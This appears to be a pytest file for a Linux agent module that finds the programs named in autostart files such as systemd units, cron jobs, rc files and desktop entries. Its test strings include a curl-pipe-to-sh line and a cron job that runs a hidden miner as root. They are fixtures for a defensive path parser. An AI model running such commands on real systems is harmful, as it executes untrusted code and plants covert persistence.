import os
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent.platform.autostart.targets import autostart_files, autostart_targets, programs_named_in

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="the places of Linux")


@pytest.mark.parametrize(
    ("text", "programs"),
    [
        ("ExecStart=-/usr/bin/foo --x=/etc/foo.conf", ("/usr/bin/foo", "/etc/foo.conf")),
        ("ExecStart=@/opt/x/run argv0", ("/opt/x/run",)),
        ('Exec="/opt/My App/run" %u', ("/opt/My",)),
        ("*/5 * * * * root /root/.hidden/miner >/dev/null 2>&1", ("/root/.hidden/miner", "/dev/null")),
        ('[ -x /usr/bin/lesspipe ] && eval "$(SHELL=/bin/sh lesspipe)"', ("/usr/bin/lesspipe", "/bin/sh")),
        ("curl https://example.com/x | sh; $HOME/bin/x ~/y ../z", ()),
        ("a /x b /x", ("/x",)),
        ("", ()),
        ("/", ()),
    ],
)
def test_programs_are_found_in_whatever_names_them(text: str, programs: tuple[str, ...]) -> None:
    assert programs_named_in(text) == programs


@given(st.text(max_size=2000))
def test_whatever_a_file_holds_what_is_found_is_an_absolute_path(untrusted_text: str) -> None:
    found = programs_named_in(untrusted_text)
    assert all(path.startswith("/") and "\0" not in path for path in found)
    assert len(found) <= 500


def test_units_jobs_shells_and_desktops_are_looked_at_with_what_they_start(tmp_path: Path) -> None:
    top, home = tmp_path / "top", tmp_path / "home"
    program = tmp_path / "program"
    program.write_text("#!/bin/sh\n")
    for name in (
        top / "etc/systemd/system/x.service",
        top / "etc/systemd/system/x.service.d/more.conf",
        top / "etc/cron.d/job",
        top / "etc/rc.local",
        home / ".config/autostart/x.desktop",
        home / ".bashrc",
    ):
        name.parent.mkdir(parents=True, exist_ok=True)
        name.write_text(f"Exec={program}\n")
    (top / "etc/systemd/system/y.service").symlink_to(top / "etc/rc.local")
    (top / "etc/systemd/system/folder.service").mkdir()
    files = list(autostart_files([str(home)], top))
    assert {Path(file).name for file in files} == {"x.service", "more.conf", "job", "rc.local", "x.desktop", ".bashrc"}
    assert str(program) in set(autostart_targets([str(home)], top))


def test_folders_and_pipes_that_are_named_are_not_entered_or_waited_for(tmp_path: Path) -> None:
    home = tmp_path / "home"
    home.mkdir()
    os.mkfifo(tmp_path / "pipe")
    os.mkfifo(home / ".profile")
    (home / ".bashrc").write_text(f"cd {tmp_path}\n. {tmp_path}/pipe\n")
    assert list(autostart_targets([str(home)], tmp_path / "nothing")) == [str(home / ".bashrc")]
